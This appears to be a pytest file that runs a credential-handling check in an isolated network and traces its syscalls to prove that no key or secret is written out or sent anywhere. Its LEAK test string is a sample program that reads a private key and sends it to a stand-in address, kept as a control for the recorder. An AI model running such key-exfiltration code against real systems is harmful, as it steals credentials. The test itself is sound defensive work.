"""A check in a network that has nothing but the target: where it connects, and what it writes, call by call."""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path, PurePosixPath

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from msgspec import Struct

from tests.redaction.isolated import CA_PASSPHRASE, REPORTS, SECRETS
from tests.redaction.layers import layers
from tests.redaction.syscalls import STRACE, Destination, Trace, read_trace

pytestmark = pytest.mark.slow

ROOT = Path(__file__).resolve().parents[2]
UNSHARE = shutil.which("unshare")
ISOLATED = (str(UNSHARE), "--map-root-user", "--net")
MEMORY = "/memfd:specdrift"
"""The anonymous memory through which OpenSSL gets a key: no file has its bytes, and it ends with the process."""
OUTPUTS = {*REPORTS.values(), "recording.json", "run.ckpt"}


def _unusable() -> str | None:
    """Return why a program cannot be isolated and recorded here; None if it can."""
    if not sys.platform.startswith("linux"):
        return "network namespaces are a feature of Linux"
    if UNSHARE is None or STRACE is None:
        return "`unshare` (util-linux) or `strace` is not installed"
    for command in (ISOLATED, (*ISOLATED, STRACE, "-o", "/dev/null")):
        done = subprocess.run((*command, "true"), capture_output=True, text=True, timeout=30, check=False)
        if done.returncode != 0:
            return f"this machine forbids `{' '.join(command)}`: {done.stderr.strip()}"
    return None


class Recorded(Struct, frozen=True):
    """A finished run."""

    folder: Path
    port: int
    status: int
    seen: frozenset[str]
    trace: Trace

    @property
    def output(self) -> str:
        """Standard output and standard error."""
        return (self.folder / "output").read_text(encoding="utf-8")

    def secrets(self) -> dict[str, bytes]:
        """Return every form of keys, passphrases, token and API key, by what it is."""
        found = {**SECRETS, "CA_PASSPHRASE": CA_PASSPHRASE}
        forms = {
            f"{name} {form}": data
            for name, text in found.items()
            for form, data in {
                "plain": text.encode(),
                "Base64": base64.b64encode(text.encode()).rstrip(b"="),
                "hexadecimal": text.encode().hex().encode(),
            }.items()
        }
        for name in ("alice", "client-ca"):
            forms |= {
                f"{name}.key {form}": data
                for form, data in _forms(self.folder / "certificates" / f"{name}.key").items()
            }
        return forms


def _forms(file: Path) -> dict[str, bytes]:
    """Return the private number of a key, as keys and their dumps have it."""
    key = serialization.load_pem_private_key(file.read_bytes(), None)
    assert isinstance(key, ec.EllipticCurvePrivateKey)
    number = key.private_numbers().private_value
    raw = number.to_bytes(32)
    return {
        "PEM": file.read_bytes().splitlines()[1],
        "raw": raw,
        "hexadecimal": raw.hex().encode(),
        "decimal": str(number).encode(),
        "Base64": base64.b64encode(raw).rstrip(b"="),
        "Base64url": base64.urlsafe_b64encode(raw).rstrip(b"="),
    }


def _record(folder: Path, *command: str) -> Recorded:
    """Run a command beside the target; without one, a check of it."""
    folder.mkdir(exist_ok=True)
    done = subprocess.run(
        (*ISOLATED, sys.executable, "-P", "-m", "tests.redaction.isolated", str(folder), *command),
        cwd=ROOT,
        env={"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    told = json.loads(done.stdout.splitlines()[-1])
    trace = read_trace(folder / "trace", cwd=folder / "run")
    return Recorded(folder, told["port"], told["status"], frozenset(told["seen"]), trace)


@pytest.fixture(scope="module", autouse=True)
def _isolation() -> None:
    """Skip where the machine cannot isolate or record."""
    reason = _unusable()
    if reason is not None:
        pytest.skip(reason)


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Recorded:
    """A whole check of a correct server, with every kind of credential."""
    return _record(tmp_path_factory.mktemp("isolated"))


def test_the_check_uses_every_credential(run: Recorded) -> None:
    """The control of the tests below: certificate, API key and token arrive, and every operation is consistent."""
    result = json.loads((run.folder / "run" / "report.json").read_text())
    assert (run.status, sorted(run.seen)) == (0, ["key", "mtls", "oauth"]), run.output
    assert {operation["verdict"] for operation in result["operations"]} == {"consistent"}


def test_connections_go_to_the_target_only(run: Recorded) -> None:
    """No name is resolved, no proxy used, no report sent; hosts of the document and of answers get nothing."""
    assert run.trace.destinations() == {Destination("AF_INET", "127.0.0.1", run.port)}
    assert run.trace.listeners() == []


def test_only_openssl_is_started(run: Recorded) -> None:
    """It replays early data, without a certificate; no other program gets anything."""
    started = {PurePosixPath(path).name for path in run.trace.programs()}
    assert started <= {Path(sys.executable).name, "openssl"}


def test_only_reports_and_private_folders_are_written(run: Recorded) -> None:
    """Each report is written beside its place and renamed; nothing else outlives the run."""
    own, temporary = PurePosixPath(run.folder / "run"), PurePosixPath(run.folder / "temporary")
    places = run.trace.places()
    partial = {place for place in places if place.parent == own and place.name.startswith(".specdrift-")}
    outside = {place for place in places - partial if not place.is_relative_to(temporary)}
    # The folder of the reports is there already.
    assert outside - {own, PurePosixPath("/dev/null")} == {own / name for name in OUTPUTS}
    assert any(place.parent.name.startswith("specdrift-private-") for place in places)
    assert list((run.folder / "temporary").iterdir()) == []
    inputs = {"openapi.json", "alice.key", "client-ca.key", "client-ca.pass", "specdrift.toml"}
    assert {path.name for path in (run.folder / "run").iterdir()} == inputs | (OUTPUTS - {"run.ckpt"})


def test_no_written_byte_is_of_a_key(run: Recorded) -> None:
    """Neither in a file, also one that was removed, nor in a pipe, nor in the clear to the target."""
    assert run.trace.copies() == []
    secrets = run.secrets()
    shown = {
        f"{place}: {name}"
        for place, data in run.trace.written()
        for name, form in secrets.items()
        if form in data
    }
    memory = {each for each in shown if each.startswith(MEMORY)}
    assert sorted(shown - memory) == []
    assert any("alice.key PEM" in each for each in memory), "the control: the search finds a key"


def test_no_report_packs_a_secret(run: Recorded) -> None:
    """Nor has it escaped."""
    secrets = {name: form.decode() for name, form in run.secrets().items() if form.isascii()}
    assert secrets
    for file in [*(run.folder / "run" / name for name in OUTPUTS - {"run.ckpt"}), run.folder / "output"]:
        for layer in layers(file.read_text(encoding="utf-8")):
            assert [name for name, form in secrets.items() if form in layer] == [], file.name


LEAK = """
import os, socket, subprocess
key = open("../certificates/alice.key").read()
open("leak.txt", "w").write(key)
os.mkdir("folder")
os.symlink("leak.txt", "link")
for kind, place in ((socket.SOCK_STREAM, ("192.0.2.1", 443)), (socket.SOCK_DGRAM, ("192.0.2.53", 53))):
    with socket.socket(socket.AF_INET, kind) as out:
        try:
            out.connect(place) if kind == socket.SOCK_STREAM else out.sendto(key.encode(), place)
        except OSError:
            pass
with socket.socket(socket.AF_INET6) as out:
    try:
        out.connect(("2001:db8::1", 80))
    except OSError:
        pass
subprocess.run(["true"])
"""


def test_a_program_that_leaks_is_seen(tmp_path: Path) -> None:
    """The recorder sees attempts that fail, datagrams, files, links and children."""
    leak = _record(tmp_path / "leak", sys.executable, "-I", "-S", "-c", LEAK)
    assert leak.status == 0, leak.output
    assert leak.trace.destinations() == {
        Destination("AF_INET", "192.0.2.1", 443),
        Destination("AF_INET", "192.0.2.53", 53),
        Destination("AF_INET6", "2001:db8::1", 80),
    }
    own = PurePosixPath(leak.folder / "run")
    assert {own / "leak.txt", own / "folder", own / "link"} <= leak.trace.places()
    assert "true" in {PurePosixPath(path).name for path in leak.trace.programs()}
    key = leak.secrets()["alice.key PEM"]
    found = [place for place, data in leak.trace.written() if key in data]
    assert str(own / "leak.txt") in found
    assert len(found) == 2
